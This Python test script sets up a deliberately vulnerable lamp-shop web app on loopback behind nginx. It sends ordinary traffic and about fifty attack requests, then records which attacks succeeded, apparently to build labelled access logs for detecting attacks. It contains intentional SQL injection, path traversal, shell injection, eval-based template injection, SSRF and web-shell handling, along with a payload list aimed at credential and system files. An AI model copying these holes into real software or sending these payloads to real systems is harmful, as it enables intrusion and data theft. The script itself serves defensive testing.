"""A shop with every classic hole, to record what attacks on it look like in an access log and whether they worked.

It listens on loopback only, behind a real nginx whose log carries `$request_time`. `record` sends ordinary requests and
attacks and writes `shop_access.log` and `shop_verdicts.tsv` (line of the log, what the answer proves). Run it again:

    python tests/content/requests/vulnerable_shop.py FOLDER
"""

from __future__ import annotations

import html
import http.client
import http.server
import os
import random
import re
import sqlite3
import subprocess
import sys
import threading
import time
import urllib.parse
from collections.abc import Callable
from pathlib import Path

SITE = 18091
APPLICATION = 18092
VISITORS = ("192.0.2.14", "192.0.2.77", "192.0.2.130", "198.51.100.9", "198.51.100.61", "198.51.100.203")
ATTACKER = "203.0.113.66"
"""Addresses of documentation, which nginx takes from a header: https://www.rfc-editor.org/rfc/rfc5737."""
HOME = "/srv/shop/files/"
SECRET = "root:x:0:0:root:/root:/bin/bash"
NGINX = """
daemon off; worker_processes 1; pid {folder}/nginx.pid; error_log {folder}/error.log;
events {{}}
http {{
  log_format timed '$remote_addr - $remote_user [$time_local] "$request" $status $body_bytes_sent '
                   '"$http_referer" "$http_user_agent" $request_time';
  access_log {folder}/access.log timed;
  client_body_temp_path {folder}/body; proxy_temp_path {folder}/proxy; fastcgi_temp_path {folder}/fastcgi;
  uwsgi_temp_path {folder}/uwsgi; scgi_temp_path {folder}/scgi;
  set_real_ip_from 127.0.0.1; real_ip_header X-Real-IP;
  server {{ listen 127.0.0.1:{site}; merge_slashes off;
    location / {{ proxy_pass http://127.0.0.1:{application}; proxy_set_header X-Real-IP $remote_addr; }} }}
}}
"""


class Shop:
    """The application: a path's function takes its parameters and gives (status, body, headers)."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.files = folder / "files"
        self.uploads: set[str] = set()
        self.files.mkdir()
        (folder / "passwd").write_text(f"{SECRET}\n" + "daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n" * 20)
        for name in ("price-list.txt", "terms.txt", "manual.txt"):
            (self.files / name).write_text(f"{name}\n" + "All our prices are in euro and include tax.\n" * 60)
        self.database = sqlite3.connect(":memory:", check_same_thread=False)
        self.database.create_function("sleep", 1, self.sleep)
        self.database.executescript(
            "CREATE TABLE item (id INTEGER, name TEXT, price TEXT);"
            "CREATE TABLE member (login TEXT, pass TEXT);"
            "CREATE TABLE news (id INTEGER, cat INTEGER, title TEXT);"
        )
        for number in range(1, 40):
            self.database.execute("INSERT INTO item VALUES (?, ?, ?)", (number, f"Lamp {number}", f"{number}.90"))
            self.database.execute("INSERT INTO member VALUES (?, ?)", (f"member{number}", f"hash-{number:032x}"))
            self.database.execute("INSERT INTO news VALUES (?, ?, ?)", (number, number % 5, f"Light news {number}"))
        self.lock = threading.Lock()

    @staticmethod
    def sleep(seconds: float) -> int:
        """As MySQL's: 0, some seconds later."""
        time.sleep(min(float(seconds), 3))
        return 0

    def answer(self, target: str) -> tuple[int, str, dict[str, str]]:
        """What the shop says to a request."""
        path, _, query = target.partition("?")
        asked = {name: values[0] for name, values in urllib.parse.parse_qs(query, keep_blank_values=True).items()}
        page: Callable[[dict[str, str]], tuple[int, str, dict[str, str]]] | None = {
            "/": lambda _: (200, self.page("Welcome" + " and look around." * 90), {}),
            "/item": self.item,
            "/stock": self.stock,
            "/news": self.news,
            "/login": self.login,
            "/download": self.download,
            "/manual": self.manual,
            "/search": lambda given: (200, self.page(f"No lamp is called {given.get('q', '')}." + "." * 700), {}),
            "/find": lambda given: (200, self.page(html.escape(given.get("q", "")) + "." * 700), {}),
            "/ping": self.ping,
            "/hello": self.hello,
            "/go": lambda given: (302, "", {"Location": "/" + re.sub(r"[\r\n]", "", given.get("to", ""))}),
            "/fetch": self.fetch,
            "/.env": lambda _: (200, "APP_KEY=base64:c2VjcmV0\nDB_PASSWORD=lamp4all\n" * 4, {}),
        }.get(path)
        if page is not None:
            return page(asked)
        if path.startswith("/uploads/") and path in self.uploads:
            return 200, self.shell(asked.get("cmd", "")), {"Content-Type": "text/plain"}
        if path.startswith("/uploads/") and "put" in asked:
            self.uploads.add(path)
            return 201, "stored", {}
        if path.startswith("/shop/"):  # this part of the site says "not found" with a friendly page and a 200
            return 200, self.page("We could not find that page. " * 30), {}
        return 404, self.page("Not found"), {}

    @staticmethod
    def page(body: str) -> str:
        """A whole page."""
        return f"<!doctype html><title>Lamps</title><main>{body}</main>"

    def rows(self, query: str) -> tuple[int, str, dict[str, str]]:
        """What a query gives, or the database's complaint."""
        with self.lock:
            try:
                found = self.database.execute(query).fetchall()
            except (sqlite3.Error, sqlite3.Warning) as error:
                return 500, self.page(f"sqlite3: {error}"), {}
        listed = "".join(f"<li>{' '.join(map(str, row))}</li>" for row in found)
        return 200, self.page(f"<ul>{listed}</ul>" + "Our lamps last. " * 50), {}

    def item(self, asked: dict[str, str]) -> tuple[int, str, dict[str, str]]:
        """Joins the number into its query."""
        return self.rows(f"SELECT id, name, price FROM item WHERE id = {asked.get('id', '0')}")

    def stock(self, asked: dict[str, str]) -> tuple[int, str, dict[str, str]]:
        """Refuses what is not a number, politely."""
        number = asked.get("id", "0")
        text = f"{int(number) % 7} left" if number.isdecimal() else "No such item"
        return 200, self.page(text + " in our store. " * 60), {}

    def news(self, asked: dict[str, str]) -> tuple[int, str, dict[str, str]]:
        """Joins the text into its query and shows nothing of it."""
        status, body, _ = self.rows(f"SELECT count(*) FROM news WHERE id = {asked.get('cat', '0')}")
        return (200, self.page("News of our lamps. " * 40), {}) if status == 200 else (status, body, {})

    def login(self, asked: dict[str, str]) -> tuple[int, str, dict[str, str]]:
        """Joins name and password into its query."""
        status, body, _ = self.rows(
            f"SELECT login FROM member WHERE login = '{asked.get('user', '')}' AND pass = '{asked.get('pass', '')}'"
        )
        if status == 200 and "<li>" in body:
            return 302, "", {"Location": "/account", "Set-Cookie": "sid=1"}
        return (200, self.page("Wrong name or password. " * 20), {}) if status == 200 else (status, body, {})

    def download(self, asked: dict[str, str]) -> tuple[int, str, dict[str, str]]:
        """Joins the name to its folder; of the system it has the file of accounts alone, and that was made for this."""
        path = os.path.normpath(HOME + asked.get("file", "").split("\0")[0])
        if path == "/etc/passwd":
            path = str(self.folder / "passwd")
        elif path.startswith(HOME):
            path = str(self.files / path.removeprefix(HOME))
        else:
            return 404, self.page("No such file"), {}
        try:
            return 200, Path(path).read_text(), {"Content-Type": "text/plain"}
        except (OSError, UnicodeDecodeError):
            return 404, self.page("No such file"), {}

    def manual(self, asked: dict[str, str]) -> tuple[int, str, dict[str, str]]:
        """Takes the last part of the name only."""
        path = self.files / Path(asked.get("file", "")).name
        return (200, path.read_text(), {}) if path.is_file() else (404, self.page("No such manual"), {})

    def ping(self, asked: dict[str, str]) -> tuple[int, str, dict[str, str]]:
        """Gives its parameter to a shell."""
        return 200, self.page(f"<pre>{self.shell('echo asking ' + asked.get('host', ''))}</pre>" + "-" * 200), {}

    def hello(self, asked: dict[str, str]) -> tuple[int, str, dict[str, str]]:
        """Takes its parameter for a template."""
        given = asked.get("name", "you")
        try:
            said = re.sub(r"\{\{(.*?)\}\}", lambda each: str(eval(each[1], {})), given)
        except Exception as error:  # noqa: BLE001 - whatever the template does
            return 500, self.page(f"template: {error}"), {}
        return 200, self.page(f"Hello {said}" + "!" * 300), {}

    def fetch(self, asked: dict[str, str]) -> tuple[int, str, dict[str, str]]:
        """Gets what its parameter names; the address of a cloud's metadata answers as a cloud does."""
        url = asked.get("url", "")
        if url.startswith("http://169.254.169.254/"):
            return 200, '{"AccessKeyId": "ASIAEXAMPLE", "SecretAccessKey": "x", "Token": "y"}', {}
        if url.startswith("https://cdn.lamps.example/"):
            return 200, self.page("preview " * 40), {}
        return 502, self.page("cannot fetch"), {}

    def shell(self, command: str) -> str:
        """What a shell says within two seconds."""
        run = subprocess.run(
            ["/bin/sh", "-c", command], capture_output=True, text=True, timeout=9, check=False, cwd=self.folder
        )
        return run.stdout + run.stderr


ORDINARY = (
    "/", "/item?id={n}", "/item?id={n}", "/stock?id={n}", "/news?cat={n}", "/search?q=lamp+{n}", "/find?q=lamp+{n}",
    "/download?file=price-list.txt", "/download?file=terms.txt", "/manual?file=manual.txt", "/ping?host=10.0.0.{n}",
    "/hello?name=Ann{n}", "/go?to=item?id={n}", "/login?user=member{n}&pass=hash-{n:032x}",
    "/login?user=member{n}&pass=x",
    "/fetch?url=https://cdn.lamps.example/{n}.png", "/shop/lamp-{n}", "/missing-{n}",
)  # fmt: skip
# What is asked, and what in the answer proves that it worked (nothing: the answer took as long as it was told to).
ATTACKS = (
    ("/item?id=-1+UNION+SELECT+1,login,pass+FROM+member", "hash-0"),
    ("/item?id=0+UNION+SELECT+1,group_concat(name),3+FROM+sqlite_master", "member"),
    ("/item?id=1+OR+1=1", "Lamp 39"),
    ("/item?id=1%20or%20'a'%3D'a'", "Lamp 39"),
    ("/item?id=-1/**/UNION/**/SELECT/**/1,login,pass/**/FROM/**/member", "hash-0"),
    ("/item?id=-1+UNION+SELECT+1,2", "hash-0"),
    ("/item?id=1'+OR+'1'='1", "Lamp 39"),
    ("/item?id=1+AND+EXTRACTVALUE(1,CONCAT(0x7e,(SELECT+@@version)))", "version is"),
    ("/item?id=1;DROP+TABLE+item;--", "dropped"),
    ("/item?id=1%2527%2520OR%25201%253D1--", "Lamp 39"),
    ("/stock?id=1+OR+1=1", "Lamp 39"),
    ("/stock?id=-1+UNION+SELECT+1,login,pass+FROM+member", "hash-0"),
    ("/stock?id=1'+OR+'1'='1", "Lamp 39"),
    ("/stock?id=1+AND+SLEEP(2)", None),
    ("/news?cat=1+AND+SLEEP(2)", None),
    ("/news?cat=(SELECT+SLEEP(2))", None),
    ("/news?cat=1;WAITFOR+DELAY+'0:0:3'--", None),
    ("/news?cat=1'+AND+(SELECT+pg_sleep(3))--", None),
    ("/login?user=member1'--&pass=x", "account"),
    ("/login?user='+OR+1=1--&pass=x", "account"),
    ("/login?user=member1%27%20or%20&pass=x", "account"),
    ("/login?user=nobody'+AND+1=2--&pass=x", "account"),
    ("/download?file=../../../../etc/passwd", SECRET),
    ("/download?file=..%2f..%2f..%2fetc%2fpasswd", SECRET),
    ("/download?file=..%252f..%252f..%252fetc%252fpasswd", SECRET),
    ("/download?file=../../../../etc/shadow", SECRET),
    ("/download?file=....//....//etc/passwd", SECRET),
    ("/download?file=../../../../home/deploy/.ssh/id_rsa", SECRET),
    ("/manual?file=../../../../etc/passwd", SECRET),
    ("/manual?file=..%5c..%5cwindows%5cwin.ini", "[fonts]"),
    ("/shop/../../../../etc/passwd", SECRET),
    ("/shop/.env", "APP_KEY"),
    ("/shop/.git/config", "repository"),
    ("/.env", "APP_KEY"),
    ("/.git/config", "repository"),
    ("/ping?host=127.0.0.1;id", "uid="),
    ("/ping?host=127.0.0.1|cat+passwd", SECRET),
    ("/ping?host=$(cat+passwd)", SECRET),
    ("/find?q=;cat+/etc/passwd", SECRET),
    ("/find?q=$(id)", "uid="),
    ("/hello?name={{7*7}}", "Hello 49"),
    ("/hello?name={{''.__class__.__mro__}}", "class"),
    ("/hello?name=${7*7}", "Hello 49"),
    ("/hello?name={{config.items()}}", "SECRET_KEY"),
    ("/fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/", "AccessKeyId"),
    ("/fetch?url=file:///etc/passwd", SECRET),
    ("/uploads/a.php?put=1", "stored"),
    ("/uploads/a.php?cmd=cat+passwd", SECRET),
    ("/uploads/b.php?cmd=id", "uid="),
    ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "uid="),
)


def ask(target: str, visitor: str) -> tuple[int, str, float]:
    """(status, body, seconds) of a visitor's request through the server."""
    started = time.monotonic()
    connection = http.client.HTTPConnection("127.0.0.1", SITE, timeout=20)
    connection.putrequest("GET", target, skip_host=False)
    connection.putheader("X-Real-IP", visitor)
    connection.putheader("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0")
    connection.endheaders()
    answer = connection.getresponse()
    location = answer.getheader("Location") or ""
    return answer.status, answer.read().decode() + location, time.monotonic() - started


def record(folder: Path) -> None:
    """Send all requests; the log is nginx's own."""
    draw = random.Random(6)
    places: list[tuple[int, str]] = []
    line = 0

    def ordinary(count: int) -> None:
        nonlocal line
        for _ in range(count):
            ask(draw.choice(ORDINARY).format(n=draw.randrange(1, 40)), draw.choice(VISITORS))
            line += 1

    ordinary(400)
    for target, proof in ATTACKS:
        ordinary(draw.randrange(3, 9))
        _, body, seconds = ask(target, ATTACKER)
        worked = seconds >= 1.5 if proof is None else proof in body
        places.append((line, "worked" if worked else "failed"))
        line += 1
    ordinary(100)
    time.sleep(1)
    here = Path(__file__).parent
    (here / "shop_access.log").write_bytes((folder / "access.log").read_bytes())
    (here / "shop_verdicts.tsv").write_text("".join(f"{place}\t{verdict}\n" for place, verdict in places))


def main(folder: Path) -> None:
    """Serve, record, stop."""
    folder.mkdir(parents=True)
    (folder / "nginx.conf").write_text(NGINX.format(folder=folder, site=SITE, application=APPLICATION))
    shop = Shop(folder)

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            status, body, headers = shop.answer(self.path)
            data = body.encode()
            self.send_response(status)
            for name, value in {"Content-Type": "text/html", "Content-Length": str(len(data)), **headers}.items():
                self.send_header(name, value)
            self.end_headers()
            self.wfile.write(data)

        def log_message(self, *_: object) -> None:
            """Nothing: nginx keeps the log."""

    server = http.server.ThreadingHTTPServer(("127.0.0.1", APPLICATION), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    nginx = subprocess.Popen(["nginx", "-p", str(folder), "-c", str(folder / "nginx.conf")])
    try:
        time.sleep(1)
        record(folder)
    finally:
        nginx.terminate()
        nginx.wait()
        server.shutdown()


if __name__ == "__main__":
    main(Path(sys.argv[1]))
